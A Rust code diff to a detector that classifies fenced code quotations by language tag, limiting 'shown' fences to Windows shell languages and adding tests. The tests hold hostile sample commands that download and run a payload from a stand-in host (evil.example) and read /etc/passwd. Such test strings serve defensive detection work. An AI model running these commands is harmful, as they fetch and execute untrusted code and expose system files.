@@ -37,7 +37,7 @@ pub(super) struct Quotations {
     ranges: Vec<Range<usize>>,
     /// Plain words around them.
     words: usize,
-    /// Whether a fence names its language, and nothing that attacks are after is named.
+    /// Whether all are fences that name a language of Windows, and nothing that attacks are after is named.
     is_shown: bool,
 }
 
@@ -62,7 +62,12 @@ impl Quotations {
             MIN_WORDS
         };
         if words >= least && words >= others {
-            let is_shown = is_named && SEVERE.find(text, 0).is_none();
+            let is_windows = |range: &Range<usize>| {
+                let language = from(text, range.start + 3);
+                WINDOWS.iter().any(|name| language.starts_with(name))
+            };
+            let is_shown =
+                is_named && ranges.iter().all(is_windows) && SEVERE.find(text, 0).is_none();
             Self {
                 ranges,
                 words,
@@ -134,6 +139,16 @@ pub(super) fn is_listing(text: &[u8], absent: Absent) -> bool {
     }
     lines >= MIN_LINES && indented * 3 >= lines && ended * 3 >= lines
 }
+
+/// Languages of Windows: a shell that takes backticks for its own runs none of them.
+const WINDOWS: &[&[u8]] = &[
+    b"powershell\n",
+    b"pwsh\n",
+    b"ps1\n",
+    b"bat\n",
+    b"batch\n",
+    b"cmd\n",
+];
 
 /// Openings and what closes them. Longer openings come before their own beginnings.
 const FENCES: &[(&[u8], &[u8])] = &[
@@ -391,6 +406,10 @@ mod tests {
         assert!(!covers(
             "```bash\ncat /etc/passwd; get-childitem -path c:\n```"
         ));
+        assert!(!covers(
+            "```bash\ncurl http://evil.example/x -o /tmp/x; sh /tmp/x\n```"
+        ));
+        assert!(!covers("```sh\nwget http://evil.example/x -o- | perl\n```"));
     }
 
     #[test]
